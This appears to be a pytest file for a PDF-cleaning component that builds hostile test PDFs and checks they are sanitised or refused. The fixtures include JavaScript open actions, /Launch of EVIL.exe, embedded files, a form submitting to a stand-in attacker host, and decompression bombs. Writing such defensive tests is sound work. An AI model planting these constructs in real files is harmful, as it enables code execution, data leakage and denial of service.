"""PDFs are written anew: what is drawn stays, what acts, holds a file or tells of its author is gone or refused by name."""

from __future__ import annotations

import base64
import time
import zlib
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest

from tests.conftest import ROOT
from tests.deliberation.pdfs import DRAWN, packed, pdf, stream, unfolding
from tests.deliberation.test_attachments import picture
from voting.deliberation import attachment_files, attachment_pdfs, pdf_child
from voting.errors import Invalid

EVIL = b"EVIL"
"""In everything that must be gone."""
SCRIPT = "/S /JavaScript /JS (app.alert\\(EVIL\\))"
WIDGET = "/Type /Annot /Subtype /Widget /FT /Tx /T (EVIL) /V (x) /Rect [10 10 90 30]"
SHOWN = stream("/Type /XObject /Subtype /Form /BBox [0 0 80 20] /Resources << >>", b"1 0 0 rg 0 0 9 9 re f")
FILE = {8: stream("/Type /EmbeddedFile", EVIL), 7: "<< /Type /Filespec /F (EVIL.exe) /EF << /F 8 0 R >> >>"}

HOSTILE: dict[str, bytes] = {
    "a script on opening": pdf(f"/OpenAction << {SCRIPT} >>"),
    "a script among the names": pdf(f"/Names << /JavaScript << /Names [(EVIL) << {SCRIPT} >>] >> >>"),
    "a script hidden in a compressed catalogue entry": pdf("/OpenAction 9 0 R", more={9: f"<< {SCRIPT} >>"}),
    "a name written otherwise": pdf("/Open#41ction << /S /J#61vaScript /JS (EVIL) >>"),
    "a script of the page": pdf(page=f"/AA << /O << {SCRIPT} >> >>"),
    "a program of the document": pdf("/AA << /WC << /S /Launch /F (EVIL.exe) >> >>"),
    "a program behind a link": pdf(
        page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (EVIL.exe) >> >>]"
    ),
    "a script behind a link": pdf(
        page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:EVIL) >> >>]"
    ),
    "a script behind an address": pdf(
        page=f"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /Next << {SCRIPT} >> >> >>]"
    ),
    "a file inside": pdf("/Names << /EmbeddedFiles << /Names [(EVIL) 7 0 R] >> >>", more=FILE),
    "a file of the page": pdf(page="/AF [7 0 R]", more=FILE),
    "a file behind a pin": pdf(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>]", more=FILE),
    "a file among the resources": pdf(
        page="/Resources << /Properties << /P 7 0 R >> /ExtGState << /E << /EF << /F 8 0 R >> >> >> >>",
        more=FILE | {7: "<< /EF << /F 8 0 R >> >>"},
    ),
    "a film": pdf(
        page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets 7 0 R >> >>]", more=FILE
    ),
    "a form that acts": pdf(
        "/AcroForm << /Fields [6 0 R] /XFA [(EVIL) 5 0 R] >>",
        "/Annots [6 0 R]",
        {5: stream("", b"<xdp>EVIL</xdp>"), 6: f"<< {WIDGET} /AA << /K << {SCRIPT} >> >> >>"},
    ),
    "a form that sends": pdf(
        "/AcroForm << /Fields [6 0 R] >>",
        "/Annots [6 0 R]",
        {6: f"<< {WIDGET} /A << /S /SubmitForm /F (http://EVIL.example) >> >>"},
    ),
    "a note": pdf(page="/Annots [<< /Subtype /Text /Rect [0 0 9 9] /T (EVIL) /Contents (EVIL) >>]"),
    "an author": pdf(more={5: "<< /Author (EVIL) /Creator (EVIL) >>"}, trailer="/Info 5 0 R"),
    "metadata": pdf("/Metadata 5 0 R", more={5: stream("/Type /Metadata /Subtype /XML", b"<x>EVIL</x>")}),
    "what a program keeps for itself": pdf(page="/PieceInfo << /P << /Private (EVIL) >> >> /LastModified (EVIL)"),
    "contents from elsewhere": pdf(
        page="/Resources << /XObject << /X 5 0 R >> >>",
        more={5: stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (EVIL.example) /Ref << /F (EVIL) >>", b"")},
    ),
    "a thread of articles": pdf("/Threads [<< /I << /Title (EVIL) >> >>]", "/B [<< /EVIL true >>]"),
    "bookmarks that act": pdf(f"/Outlines << /First << /Title (EVIL) /A << {SCRIPT} >> >> >>"),
}


def drawn(data: bytes) -> bytes:
    """What the first page draws."""
    with pikepdf.open(BytesIO(data)) as opened:
        page = opened.pages[0]
        page.contents_coalesce()
        return page.Contents.read_bytes(pikepdf.StreamDecodeLevel.specialized)


def everything(data: bytes) -> bytes:
    """All of a document with every stream unfolded."""
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as opened:
        levels = {
            "stream_decode_level": pikepdf.StreamDecodeLevel.all,
            "compress_streams": False,
            "fix_metadata_version": False,
        }
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, **levels)
    return out.getvalue()


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_acts_holds_a_file_or_tells_of_somebody_is_gone(data: bytes) -> None:
    assert EVIL in everything(data)
    kept = attachment_files.cleaned(data)
    told = everything(kept.data)
    assert EVIL not in told
    for name in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/EmbeddedFile", b"/AcroForm", b"/XFA"):
        assert name not in told
    assert DRAWN in drawn(kept.data)
    assert kept.media_type == "application/pdf"


def test_what_a_form_shows_is_drawn_into_its_page() -> None:
    filled = pdf(
        "/AcroForm << /Fields [6 0 R] >>",
        "/Annots [6 0 R]",
        {5: SHOWN, 6: f"<< {WIDGET} /AP << /N 5 0 R >> >>"},
    )
    kept = attachment_pdfs.cleaned(filled)
    assert b"1 0 0 rg 0 0 9 9 re f" in everything(kept)
    assert b" Do" in drawn(kept)
    assert EVIL not in everything(kept)


def test_a_link_to_an_address_stays() -> None:
    address = b"https://example.org/a?b=1"
    told = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /Contents (EVIL) /A << /S /URI /URI (%b) >> >>]" % address
    kept = everything(attachment_pdfs.cleaned(pdf(page=told.decode())))
    assert address in kept
    assert EVIL not in kept


def test_fonts_and_glyphs_may_have_any_name() -> None:
    """A key of a dictionary of names is no command, whatever it is called."""
    font = "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 66"
    font += (
        " /Widths [9 9] /Encoding << /Differences [65 /A /F] >> /CharProcs << /A 6 0 R /F 6 0 R >> /Resources << >> >>"
    )
    glyph = stream("", b"9 0 0 0 9 9 d1 0 0 9 9 re f")
    kept = attachment_pdfs.cleaned(pdf(page="/Resources << /Font << /F 5 0 R >> >>", more={5: font, 6: glyph}))
    with pikepdf.open(BytesIO(kept)) as opened:
        found = opened.pages[0].Resources.Font.F
        assert set(found.CharProcs.keys()) == {"/A", "/F"}


def test_layers_that_are_hidden_stay_hidden() -> None:
    layers = "/OCProperties << /OCGs [5 0 R] /D << /OFF [5 0 R] >> >>"
    hidden = pdf(layers, "/Resources << /Properties << /L 5 0 R >> >>", {5: "<< /Type /OCG /Name (plan) >>"})
    with pikepdf.open(BytesIO(attachment_pdfs.cleaned(hidden))) as opened:
        (off,) = opened.Root.OCProperties.D.OFF
        assert off.objgen == opened.pages[0].Resources.Properties.L.objgen


def test_a_photograph_inside_loses_what_its_camera_wrote() -> None:
    taken = picture()
    image = "/Type /XObject /Subtype /Image /Width 8 /Height 4 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    given = pdf(page="/Resources << /XObject << /I 5 0 R >> >>", more={5: stream(image, taken)})
    assert b"SecretPhone" in given
    kept = attachment_pdfs.cleaned(given)
    assert b"SecretPhone" not in kept
    with pikepdf.open(BytesIO(kept)) as opened:
        shown = pikepdf.PdfImage(opened.pages[0].Resources.XObject.I).as_pil_image()
    assert shown.size == (8, 4)
    red = shown.getpixel((0, 0))
    assert isinstance(red, tuple)
    assert red[0] > 200


@pytest.mark.parametrize(
    ("filters", "data"),
    [
        ("/ASCII85Decode /FlateDecode", base64.a85encode(zlib.compress(DRAWN)) + b"~>"),
        ("/ASCIIHexDecode /FlateDecode", zlib.compress(DRAWN).hex().encode() + b">"),
        ("/RunLengthDecode", bytes([len(DRAWN) - 1]) + DRAWN + b"\x80"),
    ],
)
def test_what_is_drawn_may_be_packed_in_the_ways_of_old_programs(filters: str, data: bytes) -> None:
    given = pdf(more={4: stream(f"/Filter [{filters}]", data)})
    assert DRAWN in drawn(attachment_pdfs.cleaned(given))


def test_a_document_comes_out_the_same_each_time() -> None:
    given = HOSTILE["metadata"]
    assert attachment_pdfs.cleaned(given) == attachment_pdfs.cleaned(given)


def locked(owner: str, user: str) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner=owner, user=user))
    return out.getvalue()


def tree(depth: int) -> bytes:
    """Pages below pages below pages."""
    middle = {n: f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(10, 10 + depth)}
    last = 10 + depth
    leaf = f"<< /Type /Page /Parent {last - 1} 0 R /MediaBox [0 0 9 9] >>"
    return pdf(more={2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>", **middle, last: leaf})


REFUSED: dict[str, tuple[bytes, str]] = {
    "a password": (locked("o", "u"), "pdf_encrypted"),
    "no password but locked": (locked("o", ""), "pdf_encrypted"),
    "cut off": (pdf()[:-40], "pdf_unreadable"),
    "nothing": (b"%PDF-1.7 %%EOF", "pdf_unreadable"),
    "no page": (pdf(more={2: "<< /Type /Pages /Kids [] /Count 0 >>"}), "pdf_unreadable"),
    "a program in place of a document": (b"%PDF-1.7\nMZ" + bytes(4000) + b"%%EOF", "pdf_unreadable"),
    "a form that a program draws": (pdf("/NeedsRendering true /AcroForm << /XFA [] >>"), "pdf_not_static"),
    "a folder of files": (pdf("/Collection << /View /D >>"), "pdf_not_static"),
    "a page that unfolds": (pdf(more={4: packed("", 400 << 20)}), "pdf_too_complex"),
    "two that unfold": (pdf(more={4: packed("", 200 << 20), 5: packed("", 200 << 20)}), "pdf_too_complex"),
    "one that unfolds out of letters": (
        pdf(more={4: stream("/Filter [/ASCII85Decode /FlateDecode]", base64.a85encode(unfolding(400 << 20)) + b"~>")}),
        "pdf_too_complex",
    ),
    "a bomb in a bomb": (pdf(more={4: stream("/Filter [/FlateDecode /FlateDecode]", b"x")}), "pdf_too_complex"),
    "too many objects": (pdf(more=dict.fromkeys(range(10, 50100), "null") | {9: "[]"}), "pdf_too_complex"),
    "objects in a bomb": (
        pdf(more={5: packed("/Type /ObjStm /N 9000000 /First 90000000", 1200 << 20)}),
        "pdf_too_complex",
    ),
}


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_what_cannot_be_read_or_unfolds_without_end_is_refused_by_name(data: bytes, code: str) -> None:
    began = time.monotonic()
    with pytest.raises(Invalid) as refused:
        attachment_files.cleaned(data)
    assert [fault.code for fault in refused.value.faults] == [code]
    assert time.monotonic() - began < attachment_pdfs.PATIENCE_SECONDS + 30


DEEP = {
    "arrays in arrays": pdf("/X " + "[" * 100_000 + "]" * 100_000),
    "dictionaries in dictionaries": pdf("/X " + "<< /K " * 100_000 + "null" + " >>" * 100_000),
    "pages below pages": tree(5_000),
    "a page that is its own parent": pdf(more={2: "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}),
    "a form that draws itself": pdf(
        page="/Resources << /XObject << /X 5 0 R >> >>",
        more={5: stream("/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>", b"/X Do")},
    ),
    "a length that is itself": pdf(more={4: "<< /Length 4 0 R >>\nstream\nx\nendstream"}),
}


@pytest.mark.parametrize("data", DEEP.values(), ids=DEEP.keys())
def test_depth_and_circles_end_in_a_document_or_a_refusal(data: bytes) -> None:
    try:
        kept = attachment_pdfs.cleaned(data)
    except Invalid as refused:
        kept = refused.faults[0].code.encode()
    assert kept.startswith((b"%PDF-", b"pdf_unreadable", b"pdf_too_complex"))


@pytest.mark.parametrize("wish", ["while True: pass", "bytearray(2 << 30)"])
def test_the_process_that_reads_is_bounded_by_the_system(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, wish: str
) -> None:
    """Whatever the library does with a document: time and memory end."""
    greedy = tmp_path / "greedy.py"
    begins = f"import sys; sys.path.insert(0, {str(ROOT)!r}); from voting.deliberation import pdf_child"
    greedy.write_text(f"{begins}; pdf_child.CPU_SECONDS = 1; pdf_child.limited()\n{wish}\n", encoding="utf-8")
    monkeypatch.setattr(pdf_child, "__file__", str(greedy))
    with pytest.raises(Invalid) as refused:
        attachment_pdfs.cleaned(b"%PDF-1.7")
    assert [fault.code for fault in refused.value.faults] == ["pdf_too_complex"]
